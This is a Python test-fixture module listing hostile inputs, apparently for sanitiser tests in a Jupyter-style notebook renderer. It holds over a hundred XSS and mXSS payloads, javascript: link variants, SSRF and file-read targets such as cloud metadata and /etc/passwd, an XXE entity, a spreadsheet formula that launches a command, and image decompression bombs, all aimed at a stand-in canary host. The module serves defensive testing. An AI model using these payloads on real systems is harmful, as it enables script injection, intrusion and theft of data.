"""Hostile payloads: content that tries to run, to load from elsewhere, to hide, to clobber or to crash.

`CORPUS` is a list of `Case`s: name, artifact type, value. A create call either refuses a case with one of our errors or
keeps it; whatever is kept must show itself without running `CANARY`, without a request to `HOST`, and come back equal.
`MARKUP` is the HTML of it alone, `LINKS` the addresses that are no links.
"""

from __future__ import annotations

import struct
import zlib
from typing import Any, NamedTuple

CANARY = "window.__canary=(window.__canary||0)+1"
HOST = "canary.example"
REMOTE = f"http://{HOST}/x"


class Case(NamedTuple):
    """One hostile value."""

    name: str
    type: str
    value: Any


def png(width: int, height: int, *extra: bytes) -> bytes:
    """A PNG that says it is so large, with hardly any data."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + b"".join(extra)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 100))
        + chunk(b"IEND", b"")
    )


MARKUP = {
    "script": f"<script>{CANARY}</script>",
    "script-upper": f"<ScRiPt>{CANARY}</sCrIpT>",
    "script-src": f"<script src={REMOTE}></script>",
    "script-space": f"<script\n>{CANARY}</script\n>",
    "script-slash": f"<script/x>{CANARY}</script>",
    "script-nested": f"<scr<script>ipt>{CANARY}</scr</script>ipt>",
    "script-unclosed": f"<script>{CANARY}",
    "script-comment": f"<!--><script>{CANARY}</script>-->",
    "script-in-comment-end": f"<!-- --!><script>{CANARY}</script> -->",
    "script-in-attribute": f'<p title="</p><script>{CANARY}</script>">x</p>',
    "script-module": f"<script type=module>{CANARY}</script>",
    "script-cdata": f"<![CDATA[<script>{CANARY}</script>]]>",
    "img-onerror": f"<img src=x onerror={CANARY}>",
    "img-onerror-quotes": f'<img src="x" onerror="{CANARY}">',
    "img-onerror-slash": f"<img/src=x/onerror={CANARY}>",
    "img-onerror-entity": "<img src=x onerror=&#119;indow.__canary=1>",
    "img-onload": f"<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload={CANARY}>",
    "img-remote": f"<img src={REMOTE}.png>",
    "img-srcset": f"<img srcset='{REMOTE}.png 2x'>",
    "img-protocol-relative": f"<img src=//{HOST}/x.png>",
    "img-lowsrc": f"<img lowsrc={REMOTE} dynsrc={REMOTE}>",
    "img-svg-data": f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{CANARY}'/>\">",
    "img-usemap": "<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= usemap=#m><map name=m><area href=javascript:1 shape=default></map>",
    "picture": f"<picture><source srcset={REMOTE}.png><img></picture>",
    "svg-onload": f"<svg onload={CANARY}>",
    "svg-script": f"<svg><script>{CANARY}</script></svg>",
    "svg-animate": f"<svg><animate onbegin={CANARY} attributeName=x dur=1s>",
    "svg-use": f"<svg><use href='{REMOTE}.svg#x'/></svg>",
    "svg-foreign": f"<svg><foreignObject><iframe src='javascript:{CANARY}'></iframe></foreignObject></svg>",
    "svg-a": f"<svg><a xlink:href='javascript:{CANARY}'><text>x</text></a></svg>",
    "svg-set-href": f"<svg><a><set attributeName=href to='javascript:{CANARY}'/><text>click</text></a></svg>",
    "svg-image": f"<svg><image href='{REMOTE}.png'/></svg>",
    "math-href": f"<math><maction actiontype=statusline xlink:href='javascript:{CANARY}'>x</maction></math>",
    "math-style": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={CANARY}&gt;">',
    "mxss-noscript": f'<noscript><p title="</noscript><img src=x onerror={CANARY}>">',
    "mxss-template": f"<template><script>{CANARY}</script></template>",
    "mxss-form-math": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={CANARY}>",
    "mxss-svg-style": f'<svg></p><style><a id="</style><img src=1 onerror={CANARY}>">',
    "mxss-xmp": f'<xmp><p title="</xmp><img src=x onerror={CANARY}>">',
    "mxss-select": f"<select><style></select><img src=x onerror={CANARY}></style>",
    "mxss-textarea": f'<textarea><img title="</textarea><img src=x onerror={CANARY}>"></textarea>',
    "mxss-title": f'<title><a title="</title><img src=x onerror={CANARY}>"></a></title>',
    "mxss-table": f"<table><caption><a><table><svg><script>{CANARY}</script></table></caption></table>",
    "mxss-deep": "<div>" * 600 + f"<img src=x onerror={CANARY}>",
    "plaintext": f"<plaintext><script>{CANARY}</script>",
    "iframe": f"<iframe src='javascript:{CANARY}'></iframe>",
    "iframe-srcdoc": f"<iframe srcdoc='<script>parent.{CANARY}</script>'></iframe>",
    "iframe-remote": f"<iframe src={REMOTE}></iframe>",
    "object": f"<object data='javascript:{CANARY}'></object>",
    "object-remote": f"<object data={REMOTE}></object>",
    "embed": f"<embed src='javascript:{CANARY}'>",
    "applet": f"<applet code={REMOTE}></applet>",
    "frameset": f"<frameset onload={CANARY}><frame src={REMOTE}></frameset>",
    "base": f"<base href='{REMOTE}/'><a href=x>x</a>",
    "meta-refresh": f"<meta http-equiv=refresh content='0;url={REMOTE}'>",
    "meta-csp": "<meta http-equiv=Content-Security-Policy content=\"default-src 'none'\">",
    "link-css": f"<link rel=stylesheet href={REMOTE}.css>",
    "link-prefetch": f"<link rel=dns-prefetch href=//{HOST}>",
    "style-import": f"<style>@import '{REMOTE}.css';</style>",
    "style-page": "<style>* {display: none !important}</style>",
    "style-fixed": "<div style='position:fixed;top:0;left:0;width:100%;height:100%;background-color:red'>x</div>",
    "style-fixed-escape": "<div style='p\\6fsition:fixed'>x</div>",
    "style-comment": "<div style='position:/**/fixed'>x</div>",
    "style-sticky": "<div style='position:sticky;z-index:999999'>x</div>",
    "style-url": f"<div style='background:url({REMOTE})'>x</div>",
    "style-url-image": f"<div style='background-image:url({REMOTE});border-image:url({REMOTE})'>x</div>",
    "style-list": f"<ul style='list-style:url({REMOTE})'><li>x</ul>",
    "style-cursor": f"<div style='cursor:url({REMOTE}),auto'>x</div>",
    "style-content": f"<div style='content:url({REMOTE})'>x</div>",
    "style-image-set": f"<div style='background-color:image-set(\"{REMOTE}\" 1x)'>x</div>",
    "style-var": f"<div style='--x:url({REMOTE});background:var(--x)'>x</div>",
    "style-expression": f"<div style='width:expression({CANARY})'>x</div>",
    "style-behavior": f"<div style='behavior:url({REMOTE});-moz-binding:url({REMOTE})'>x</div>",
    "style-huge": "<div style='width:999999999px;margin-top:-99999px;margin-left:-99999px'>x</div>",
    "style-quote": "<div style='color:red\";position:fixed'>x</div>",
    "form": f"<form action={REMOTE}><input name=x value=1><button>Go</button></form>",
    "form-clobber": "<form id=document><input name=cookie></form>",
    "button-formaction": f"<button formaction='javascript:{CANARY}'>x</button>",
    "input-autofocus": f"<input autofocus onfocus={CANARY}>",
    "input-image": f"<input type=image src={REMOTE} onerror={CANARY}>",
    "select-onfocus": f"<select autofocus onfocus={CANARY}></select>",
    "details-ontoggle": f"<details open ontoggle={CANARY}>x</details>",
    "body-onload": f"<body onload={CANARY} background={REMOTE}>",
    "video-onerror": f"<video src=x onerror={CANARY}></video>",
    "video-poster": f"<video poster={REMOTE}></video>",
    "video-source": f"<video><source onerror={CANARY} src=x></video>",
    "audio": f"<audio src={REMOTE} autoplay onloadstart={CANARY}></audio>",
    "marquee": f"<marquee onstart={CANARY}>x</marquee>",
    "div-hover": f"<div onmouseover={CANARY} onpointerenter={CANARY} style='height:99px'>x</div>",
    "div-animation": f"<div style='animation-name:x' onanimationstart={CANARY}>x</div>",
    "a-javascript": f"<a href='javascript:{CANARY}'>x</a>",
    "a-javascript-tab": f"<a href='java\tscript:{CANARY}'>x</a>",
    "a-javascript-entity": f"<a href='&#106;avascript&colon;{CANARY}'>x</a>",
    "a-javascript-newline": f"<a href='java&#10;script:{CANARY}'>x</a>",
    "a-javascript-control": f"<a href='\x01javascript:{CANARY}'>x</a>",
    "a-data": f"<a href='data:text/html,<script>{CANARY}</script>'>x</a>",
    "a-vbscript": "<a href='vbscript:msgbox(1)'>x</a>",
    "a-ping": f"<a href=https://example.com ping={REMOTE}>x</a>",
    "a-target": "<a href=https://example.com target=_top rel=opener>x</a>",
    "a-download": f"<a href='{REMOTE}' download=x.exe>x</a>",
    "a-in-a": "<a href=https://a.example><b><a href=https://b.example>x</a></b></a>",
    "clobber-id": "<a id=jupyterapp href=https://example.com>x</a><img name=getElementById>",
    "clobber-form": "<p id=x><p id=x name=y>",
    "commandlinker": "<button data-commandlinker-command=terminal:create-new data-commandlinker-args='{}'>x</button>",
    "commandlinker-div": "<div class=jp-Button data-commandlinker-command=notebook:run-all-cells>x</div>",
    "class-cover": "<div class='jp-Dialog lm-Widget jp-mod-current'>x</div>",
    "contenteditable": f"<div contenteditable onfocus={CANARY} autofocus tabindex=1>x</div>",
    "is-custom": f"<x-element is=x onclick={CANARY}>x</x-element>",
    "portal": f"<portal src={REMOTE}></portal>",
    "dialog": "<dialog open style='position:fixed'>Your session has ended. <input type=password></dialog>",
    "popover": "<div popover id=p>x</div><button popovertarget=p>x</button>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "entities-twice": "&amp;lt;script&amp;gt;",
    "attribute-breakout": f'"><script>{CANARY}</script><p x="',
    "attribute-breakout-single": f"'><img src=x onerror={CANARY}>",
    "close-everything": f"</div></td></tr></table></pre></textarea></title></style></script><img src=x onerror={CANARY}>",
    "null-bytes": f"<scr\x00ipt>{CANARY}</scr\x00ipt><img src=x one\x00rror={CANARY}>",
    "full-width": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "template-angular": "{{constructor.constructor('" + CANARY + "')()}}",
    "template-jinja": "{{ ''.__class__.__mro__ }} {% for x in y %}",
    "template-js": "${" + CANARY + "}",
    "latex-href": f"$\\href{{javascript:{CANARY}}}{{x}}$ $\\url{{javascript:1}}$",
    "latex-html": f"$\\htmlData{{x}}{{}}\\unicode{{<img src=x onerror={CANARY}>}}$",
    "latex-bomb": "$\\def\\a{\\a\\a}\\a$",
}  # fmt: skip

_MARKDOWN = {
    "link": f"[x](javascript:{CANARY})",
    "link-entity": f"[x](&#106;avascript:{CANARY})",
    "link-angle": f"[x](<javascript:{CANARY}>)",
    "link-title": f'[x](https://example.com "" onmouseover={CANARY}")',
    "link-reference": f"[x][y]\n\n[y]: javascript:{CANARY}",
    "link-data": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "autolink": f"<javascript:{CANARY}>",
    "image": f"![x]({REMOTE}.png)",
    "image-javascript": f"![x](javascript:{CANARY})",
    "image-breakout": f'![" onerror="{CANARY}]({REMOTE})',
    "image-in-link": f"[![x]({REMOTE}.png)](javascript:{CANARY})",
    "image-svg": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "attachment": "![x](attachment:../../etc/passwd)",
    "code-breakout": f'```html" onload={CANARY}\n</code></pre><script>{CANARY}</script>\n```',
    "table-breakout": f"| a |\n|---|\n| </td></table><script>{CANARY}</script> |",
    "heading-id": "# <a id=jupyterapp>x</a>",
    "brackets": "[" * 50_000,
    "quotes": "> " * 20_000,
    "emphasis": "*a **b " * 10_000,
    "underscores": "_" * 50_000 + "a",
    "backticks": "".join("`" * n + " " for n in range(300)),
    "images": "![" * 20_000,
    "lists": "".join("  " * n + "- a\n" for n in range(500)),
    "five-megabytes": "word " * 1_000_000,
    "one-long-word": "x" * 300_000,
    "control": "\x00\x01\x1b[2J\x1b]0;title\x07\x1b]8;;http://canary.example\x07x\x1b]8;;\x07\x9b31m\r\x08\x7f",
    "bidi": "safe \u202etxt.exe\u202c \u2066x\u2069",
    "separators": "a\u2028b\u2029c\x85d",
    "surrogate": "a\ud800b",
    "zalgo": "a" + "\u0301" * 5000,
    "zero-width": "a\u200b\u200c\u200d\u2060b\ufeff",
    "empty": "",
    "blank": " \n\t\n",
    "path": "/etc/passwd",
    "url": "http://127.0.0.1:1/",
    "file-url": "file:///etc/passwd",
}  # fmt: skip

LINKS = [
    f"javascript:{CANARY}", f"JavaScript:{CANARY}", f" javascript:{CANARY}", f"\tjavascript:{CANARY}", f"java\tscript:{CANARY}",
    f"java\nscript:{CANARY}", f"java\rscript:{CANARY}", f"\x00javascript:{CANARY}", f"\x01javascript:{CANARY}", f"java\x00script:{CANARY}",
    f"javascript\t:{CANARY}", f"javascript&colon;{CANARY}", f"&#106;avascript:{CANARY}", f"%6Aavascript:{CANARY}", f"javascript%3A{CANARY}",
    f"\u00a0javascript:{CANARY}", f"\u200bjavascript:{CANARY}", f"\ufeffjavascript:{CANARY}", f"\u202ejavascript:{CANARY}", f"\uff4aavascript:{CANARY}",
    f"javascript://example.com/%0A{CANARY}", f"javascript:https://example.com//{CANARY}", "vbscript:msgbox(1)", "livescript:1", "mocha:1",
    f"data:text/html,<script>{CANARY}</script>", "data:text/html;base64,PHNjcmlwdD4=", "DATA:image/svg+xml,<svg/>", "blob:https://example.com/1", "filesystem:http://x/y",
    "file:///etc/passwd", "file://localhost/etc/passwd", "FILE:/etc/passwd", "\\\\host\\share", "view-source:https://example.com",
    "about:blank", "chrome://settings", "jar:https://example.com!/x", "feed:javascript:1", "ftp://example.com/x",
    "//canary.example/x", "/lab?token=1", "../../api/shutdown", "?x", "#x", "http:", "http://", "https:///x", "http:/example.com", "http:example.com",
    "https:\\\\example.com", "https://exam\\ple.com", "https://exam ple.com", "https://exa\u202emple.com", "https://example.com/\x7f", "http://[::1", "https://?x",
    "mailto:", "mailto:?body=x", "mailto://x", "", " ", "x", "\ud800", "ws://example.com", "tel:1", "intent://x", "steam://run/1", "s3://bucket/x",
]  # fmt: skip

_SVG = {
    "script": f"<svg xmlns='http://www.w3.org/2000/svg'><script>{CANARY}</script></svg>",
    "onload": f"<svg xmlns='http://www.w3.org/2000/svg' onload='{CANARY}'/>",
    "foreign": f"<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='{CANARY}'/></foreignObject></svg>",
    "remote": f"<svg xmlns='http://www.w3.org/2000/svg'><image href='{REMOTE}.png'/></svg>",
    "css": f"<svg xmlns='http://www.w3.org/2000/svg'><style>@import '{REMOTE}.css'; rect {{fill:url({REMOTE}#x)}}</style><rect/></svg>",
    "entity": "<!DOCTYPE svg [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;\">]><svg xmlns='http://www.w3.org/2000/svg'><text>&b;</text></svg>",
    "xxe": "<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg xmlns='http://www.w3.org/2000/svg'>&x;</svg>",
    "stylesheet": f"<?xml-stylesheet href='{REMOTE}.css'?><svg xmlns='http://www.w3.org/2000/svg'/>",
    "a": f"<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'><a xlink:href='javascript:{CANARY}'><rect width='9' height='9'/></a></svg>",
    "handler": f"<svg xmlns='http://www.w3.org/2000/svg' xmlns:ev='http://www.w3.org/2001/xml-events'><handler ev:event='load'>{CANARY}</handler></svg>",
    "namespaced": f"<svg xmlns='http://www.w3.org/2000/svg' xmlns:s='http://www.w3.org/2000/svg'><s:script>{CANARY}</s:script></svg>",
    "html": f"<svg/><html><script>{CANARY}</script></html>",
}  # fmt: skip

_IMAGES: dict[str, Any] = {
    "javascript": f"javascript:{CANARY}", "data-svg": f"data:image/svg+xml,<svg onload={CANARY}>", "data-html": "data:text/html,x",
    "data-broken": "data:image/png;base64,!!!", "data-not-png": "data:image/png;base64,PHN2Zz4=", "file": "file:///etc/passwd",
    "passwd": "/etc/passwd", "missing": "/no/such/file.png", "folder": "/etc", "device": "/dev/zero", "nul": "a\x00.png", "empty": "", "empty-bytes": b"",
    "metadata-service": "http://169.254.169.254/latest/meta-data/", "loopback": "http://[::1]/x.png", "control": "https://example.com/\x1b[2J",
    "remote": f"{REMOTE}.png", "bomb": png(60_000, 60_000), "bomb-under-4-gigapixel": png(65_535, 65_535), "wide-bomb": png(2**31 - 1, 1), "no-size": png(0, 5), "truncated": png(10, 10)[:20],
    "gif-html": b"GIF89a/*<script>" + CANARY.encode() + b"</script>*/", "jpeg-garbage": b"\xff\xd8\xff" + b"\x00" * 50, "webp-garbage": b"RIFF\x00\x00\x00\x00WEBP" + b"\x00" * 20,
    "html": f"<html><script>{CANARY}</script>".encode(), "pickle": b"\x80\x04\x95\x00\x00\x00\x00\x00\x00\x00\x00.", "npz": b"PK\x03\x04" + b"\x00" * 30, "zip-text": b"PK\x03\x04",
    "png-text-bomb": png(2, 2, b""), "bytes-object": object(),
}  # fmt: skip

_NESTED: list[Any] = []
for _ in range(3000):
    _NESTED = [_NESTED]

_TABLES: dict[str, Any] = {
    "proto": [{"__proto__": {"polluted": 1}, "constructor": "x", "prototype": 1, "toString": 2, "hasOwnProperty": None}],
    "column-script": [{f"<script>{CANARY}</script>": 1, f'" onmouseover={CANARY} "': 2}],
    "column-empty": [{"": 1, " ": 2, "\x00": 3, "\x1b[2J": 4, "a\nb": 5}],
    "close-script": [{"a": "</script><script>" + CANARY + "</script>", "b": "<!--", "c": "]]>"}],
    "formula": [{"a": "=cmd|' /C calc'!A0", "b": "+1", "c": "-1", "d": "@x", "e": "\t=1"}],
    "escapes": [{"a": "\x1b]0;x\x07", "b": "\r\n", "c": "\u202egnp"}],
    "nan": [{"a": float("nan")}, {"a": float("inf")}, {"a": -float("inf")}],
    "big": [{"a": 2**53 + 1, "b": 2**64, "c": 10**400}],
    "deep": [{"a": _NESTED}],
    "surrogate": [{"a": "\ud800"}],
    "surrogate-column": [{"\udfff": 1}],
    "long-cell": [{"a": "x" * 400_000}],
    "many-columns": [{f"c{n}": n for n in range(3000)}],
    "ragged": [[1], [1, 2, 3], []],
    "mixed": [{"a": 1}, {"a": "x"}, {"a": [None]}, {"a": {"b": 1}}],
    "objects": [{"a": object()}], "sets": [{"a": {1}}], "complex": [{"a": 1j}], "lambda": [{"a": print}],
    "unhashable-looking": [{("a", 1): 1, None: 2, 1.5: 3}],
    "markdown-cell": [{"a": f"[x](javascript:{CANARY})", "b": f"![x]({REMOTE})"}],
    "path-cell": [{"a": "/etc/passwd", "b": "http://127.0.0.1:1/", "c": "file:///etc/passwd"}],
    "no-rows": [], "no-columns": [{}], "text": "a,b\n1,2", "number": 5, "none": None,
}  # fmt: skip

_BUNDLES: dict[str, Any] = {
    "javascript": {"application/javascript": CANARY, "text/plain": "x"},
    "svg": {"image/svg+xml": _SVG["onload"], "text/plain": "x"},
    "svg-remote": {"image/svg+xml": _SVG["remote"], "text/plain": "x"},
    "png-bomb": {"image/png": "iVBORw0KGgo=", "text/plain": "x"},
    "png-not-base64": {"image/png": "<script>", "text/plain": "x"},
    "latex": {"text/latex": MARKUP["latex-html"], "text/plain": "x"},
    "markdown": {"text/markdown": _MARKDOWN["image-in-link"], "text/plain": "x"},
    "vega-url": {"application/vnd.vegalite.v5+json": {"data": {"url": REMOTE}, "mark": "bar", "encoding": {}}, "text/plain": "x"},
    "plotly-link": {"application/vnd.plotly.v1+json": {"data": [], "layout": {"title": {"text": f"<a href='javascript:{CANARY}'>x</a>"}, "images": [{"source": REMOTE}]}}, "text/plain": "x"},
    "widget": {"application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2}, "text/plain": "x"},
    "geojson": {"application/geo+json": {"type": "Point", "coordinates": [0, 0]}, "text/plain": "x"},
    "odd-mime": {"text/html; charset=<script>": MARKUP["script"], "text/plain": "x"},
    "escapes": {"text/plain": _MARKDOWN["control"]},
    "not-text": {"text/html": {"a": 1}, "text/plain": ["x"]},
    "huge": {"text/html": "<p>x</p>" * 200_000, "text/plain": "x" * 100_000},
    "styles": {"text/html": f'<style>#a {{background-color:red;position:fixed;background:url({REMOTE})}} body {{display:none}}</style><p id="a">x</p>', "text/plain": "x"},
    "styles-breakout": {"text/html": f'<style>#a {{color:red" onclick="{CANARY}}}</style><p id="a">x</p>', "text/plain": "x"},
}  # fmt: skip

_PROGRESS: dict[str, Any] = {
    "nan": float("nan"), "inf": float("inf"), "above": 150, "below": -1, "huge": 10**400, "text": "50", "none": None, "bool": True, "list": [1], "complex": 1j, "tiny": 5e-324,
}  # fmt: skip

CORPUS: list[Case] = [
    *(Case(f"markdown-{name}", "markdown", value) for name, value in {**MARKUP, **{f"md-{n}": v for n, v in _MARKDOWN.items()}}.items()),
    *(Case(f"display-{name}", "display", {"text/html": value, "text/plain": name}) for name, value in MARKUP.items()),
    *(Case(f"display-bundle-{name}", "display", value) for name, value in _BUNDLES.items()),
    *(Case(f"link-{number}", "link", value) for number, value in enumerate(LINKS)),
    *(Case(f"table-cell-{name}", "table", [{"a": value, "b": 1}]) for name, value in MARKUP.items()),
    *(Case(f"table-{name}", "table", value) for name, value in _TABLES.items()),
    *(Case(f"image-svg-{name}", "image", value.encode()) for name, value in _SVG.items()),
    *(Case(f"image-{name}", "image", value) for name, value in _IMAGES.items()),
    *(Case(f"progress-{name}", "progress", value) for name, value in _PROGRESS.items()),
]  # fmt: skip
